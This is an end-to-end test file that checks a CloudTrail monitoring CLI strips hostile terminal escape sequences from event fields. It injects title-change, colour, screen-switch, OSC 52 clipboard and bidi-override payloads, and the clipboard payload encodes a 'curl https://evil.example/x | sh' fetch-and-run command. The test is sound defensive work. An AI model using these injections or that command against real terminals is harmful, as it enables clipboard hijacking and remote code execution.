/**
 * Hostile CloudTrail events on a real terminal: the built CLI in a tmux pane against the in-process
 * simulator, with events whose fields carry a title change (OSC 0/2), colour changes that are never reset,
 * a switch off the alternate screen, a clipboard write (OSC 52, which this tmux server is told to honour)
 * and bidi overrides. tmux interprets whatever reaches it, so the pane's title, screen mode, paste buffers
 * and cell colours show whether any of it got through.
 */
import {test} from 'node:test';
import assert from 'node:assert/strict';
import {execFileSync} from 'node:child_process';
import {randomBytes} from 'node:crypto';
import {existsSync, mkdtempSync, rmSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {startSimulator} from '../../source/simulator/server.js';
import {tmuxEnv} from './tmux.js';

const CLI = 'dist/cli.js';
const ESC = '\u001B';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/** A private tmux server with one pane; like test/e2e/tmux.ts, plus the raw command for pane options. */
function tmuxServer() {
	const socket = `iotmon-hostile-${process.pid}-${randomBytes(3).toString('hex')}`;
	const env = tmuxEnv();
	const tmux = (...args: string[]) => execFileSync('tmux', ['-u', '-L', socket, '-f', '/dev/null', ...args], {encoding: 'utf8', env});
	return {
		socket,
		tmux,
		format: (expression: string) => tmux('display-message', '-p', '-t', 'e2e', expression).trim(),
		capture: () => tmux('capture-pane', '-p', '-t', 'e2e'),
		/** With -e: cell colours and attributes as SGR sequences. */
		captureStyled: () => tmux('capture-pane', '-e', '-p', '-t', 'e2e'),
		/** Polls the screen; with `guard`, fails at once if the title or the screen mode has been changed. */
		async waitFor(predicate: (screen: string) => boolean, timeoutMs: number, what: string, guard = true): Promise<string> {
			const deadline = Date.now() + timeoutMs;
			let screen = '';
			while (Date.now() < deadline) {
				screen = tmux('capture-pane', '-p', '-t', 'e2e');
				if (predicate(screen)) return screen;
				if (guard) {
					const [title, alternate] = tmux('display-message', '-p', '-t', 'e2e', '#{pane_title}\t#{alternate_on}').trim().split('\t');
					if (title !== 'original') throw new Error(`the pane title changed to ${JSON.stringify(title)} (waiting for ${what})`);
					if (alternate !== '1') throw new Error(`the pane left the alternate screen (waiting for ${what})`);
				}
				await new Promise(resolve => setTimeout(resolve, 50));
			}
			throw new Error(`timed out after ${timeoutMs} ms waiting for ${what}; screen was:\n${screen}`);
		},
		kill() {
			try {
				tmux('kill-server');
			} catch {
				// already gone
			}
		},
	};
}

// The only SGR parameters the app's own styles produce (bold, dim, inverse, red/green/yellow/cyan/gray,
// and their resets) as tmux re-encodes them; a hostile blink, underline, 256-colour or background would
// show up as anything else.
const APP_SGR = new Set(['0', '1', '2', '7', '22', '27', '39', '49', '31', '32', '33', '36', '90']);

function foreignSgr(styled: string): string[] {
	const out: string[] = [];
	for (const match of styled.matchAll(/\u001B\[([0-9;:]*)m/g)) {
		const params = (match[1] ?? '') === '' ? ['0'] : (match[1] ?? '').split(';');
		if (params.some(param => !APP_SGR.has(param))) out.push(JSON.stringify(match[0]));
	}
	return out;
}

/** Escape sequences other than SGR in the styled capture (tmux writes none itself). */
const nonSgrEscapes = (styled: string): string[] => [...styled.replace(/\u001B\[[0-9;:]*m/g, '').matchAll(/\u001B.{0,12}/gs)].map(m => JSON.stringify(m[0]));

test('hostile CloudTrail fields cannot retitle, recolour, leave the alternate screen or write the clipboard', async () => {
	assert.ok(existsSync(CLI), `${CLI} is missing: run npm run build first (npm test does)`);
	const sim = await startSimulator({quiet: true});
	const state = mkdtempSync(join(tmpdir(), 'iotmon-hostile-'));
	const pane = tmuxServer();
	try {
		const now = Date.now();
		const clipboard = Buffer.from('curl https://evil.example/x | sh\n').toString('base64');
		sim.injectEvents([
			{
				eventId: 'hostile-1',
				eventTime: now - 20_000,
				eventName: `TagResource${ESC}]0;PWNED${BEL}`,
				username: `mallory${ESC}]2;PWNED${ST}`,
				raw: JSON.stringify({
					eventVersion: '1.11',
					userIdentity: {type: 'IAMUser', principalId: 'AIDAEVIL', arn: 'arn:aws:iam::123456789012:user/mallory', accountId: '123456789012', userName: `mallory${ESC}]2;PWNED${ST}`, accessKeyId: 'AKIAEVIL'},
					eventTime: new Date(now - 20_000).toISOString(),
					eventSource: 'iot.amazonaws.com',
					eventName: `TagResource${ESC}]0;PWNED${BEL}`,
					awsRegion: 'us-east-1',
					sourceIPAddress: `${ESC}[?1049l203.0.113.66`,
					userAgent: `${ESC}[41m${ESC}[4mcurl/8.0${ESC}]52;c;${clipboard}${BEL}`,
					errorCode: `${ESC}[5;38;5;196mDenied`,
					errorMessage: `not allowed${ESC}]52;c;${clipboard}${BEL}${ESC}[48;2;255;0;0m`,
					requestParameters: {resourceArn: `arn:aws:iot:us-east-1:123456789012:thing/safe\u202Etxt.exe`, tags: `\u2066admin\u2069`},
					responseElements: null,
					requestID: 'req-hostile-1',
					eventID: 'hostile-1',
					readOnly: false,
					eventType: 'AwsApiCall',
					managementEvent: true,
					recipientAccountId: '123456789012',
				}),
			},
			{
				eventId: 'hostile-2',
				eventTime: now - 25_000,
				// 8-bit CSI and OSC, and a bidi override that would reverse the rest of the row.
				eventName: `DeleteThing\u009B5m\u009D2;PWNED${BEL}\u202Eevil`,
				username: 'bob',
				sourceIp: '198.51.100.9',
			},
		]);

		const env = [
			`AWS_ENDPOINT_URL=${sim.url}`,
			'AWS_REGION=us-east-1',
			'AWS_ACCESS_KEY_ID=x',
			'AWS_SECRET_ACCESS_KEY=x',
			'AWS_EC2_METADATA_DISABLED=true',
			`XDG_CACHE_HOME=${state}`,
			`XDG_STATE_HOME=${state}`,
			`XDG_CONFIG_HOME=${state}`,
		].join(' ');
		// The pane waits on a tmux channel, so its title is set (and checked) before the app writes anything;
		// CI=true would make Ink hold every frame until exit, and the pane inherits it.
		pane.tmux(
			'new-session', '-d', '-s', 'e2e', '-x', '120', '-y', '40',
			`tmux -L ${pane.socket} wait-for go; env -u CI ${env} node ${CLI} --lookback 30m; echo "EXIT:$?"; exec sleep 600`,
		);
		// Honour clipboard writes from the pane (the default, 'external', ignores them): a leaked OSC 52 makes a buffer.
		pane.tmux('set-option', '-g', 'set-clipboard', 'on');
		pane.tmux('select-pane', '-t', 'e2e', '-T', 'original');
		assert.equal(pane.format('#{pane_title}'), 'original');
		pane.tmux('wait-for', '-S', 'go');
		await pane.waitFor(() => pane.format('#{alternate_on}') === '1', 10_000, 'the app on the alternate screen', false);

		const listed = await pane.waitFor(s => s.includes('TagResource␛]0;PWNED␇') && s.includes('DeleteThing�5m'), 15_000, 'the hostile rows');
		const row = listed.split('\n').find(line => line.includes('TagResource␛]0;PWNED␇')) ?? '';
		// The escape is shown as text, and the columns after it are still drawn in place.
		assert.match(row, /\d\d:\d\d:\d\d\s+TagResource␛\]0;PWNED␇\s+✗ ␛\[5;38;5;196mDe\S*\s+user mallory␛\]2;PWNED␛\\\s+␛\[\?1049l203\.0\./);
		const other = listed.split('\n').find(line => line.includes('DeleteThing�5m')) ?? '';
		assert.match(other, /DeleteThing�5m�2;PWNED␇�e\S*\s+user bob\s+198\.51\.100\.9/);
		assertTerminalUntouched(pane, 'list');

		// The detail view shows the user agent, error message and request parameters too.
		// One key (or word) at a time, each waited for: keys read in one chunk are taken as a paste.
		const key = async (keys: string, ready: (screen: string) => boolean, what: string) => {
			pane.tmux('send-keys', '-t', 'e2e', keys);
			await pane.waitFor(ready, 5_000, what);
		};
		await key('/', s => s.includes('⏎ apply'), 'the filter line');
		await key('PWNED', s => s.includes('/ PWNED'), 'the filter text');
		await key('Enter', s => !s.includes('⏎ apply') && /filter: "PWNED"/.test(s), 'the filter applied');
		// TagResource is the newest match (the other one is older): g selects it unless it already is.
		// Each predicate must need that key's effect, or the next key is sent at once and both arrive in one
		// read, which the app takes as typed-ahead text (where q and Enter do nothing).
		const selected = (s: string) => /▸.*TagResource␛/.test(s);
		if (!selected(pane.capture())) await key('g', selected, 'the TagResource row selected');
		pane.tmux('send-keys', '-t', 'e2e', 'Enter');
		const detail = await pane.waitFor(s => /^ DETAIL/m.test(s) && s.includes('user agent'), 5_000, 'the detail view');
		assert.match(detail, /TagResource␛\]0;PWNED␇/);
		assert.match(detail, /user agent ␛\[41m␛\[4mcurl\/8\.0␛\]52;c;/);
		assert.match(detail, /ERROR\s+␛\[5;38;5;196mDenied: not allowed␛\]52;c;/);
		assert.match(detail, /REQUEST\s+resourceArn=arn:aws:iot:us-east-1:123456789012:thing\/safe�txt\.exe/);
		assertTerminalUntouched(pane, 'detail');
		await key('G', s => /lines [\d\u2009]+–([\d\u2009]+) of \1 /.test(s) && /"recipientAccountId"/.test(s), 'the end of the record');
		assertTerminalUntouched(pane, 'record');

		pane.tmux('send-keys', '-t', 'e2e', 'q');
		const after = await pane.waitFor(s => /EXIT:\d+/.test(s), 5_000, 'the process to exit', false);
		assert.match(after, /EXIT:0/);
		assert.equal(pane.format('#{alternate_on}'), '0', 'left the alternate screen on quit');
		assert.equal(pane.format('#{pane_title}'), 'original');
		assert.equal(pane.tmux('list-buffers'), '', 'no clipboard write reached tmux');
	} finally {
		pane.kill();
		await sim.close();
		rmSync(state, {recursive: true, force: true});
	}
});

function assertTerminalUntouched(pane: ReturnType<typeof tmuxServer>, where: string): void {
	assert.equal(pane.format('#{pane_title}'), 'original', `${where}: the pane title changed`);
	assert.equal(pane.format('#{alternate_on}'), '1', `${where}: the app left the alternate screen`);
	assert.equal(pane.tmux('list-buffers'), '', `${where}: a clipboard write (OSC 52) reached tmux`);
	const styled = pane.captureStyled();
	assert.deepEqual(foreignSgr(styled), [], `${where}: colours the app never uses`);
	assert.deepEqual(nonSgrEscapes(styled), [], `${where}: escape sequences in the pane`);
}
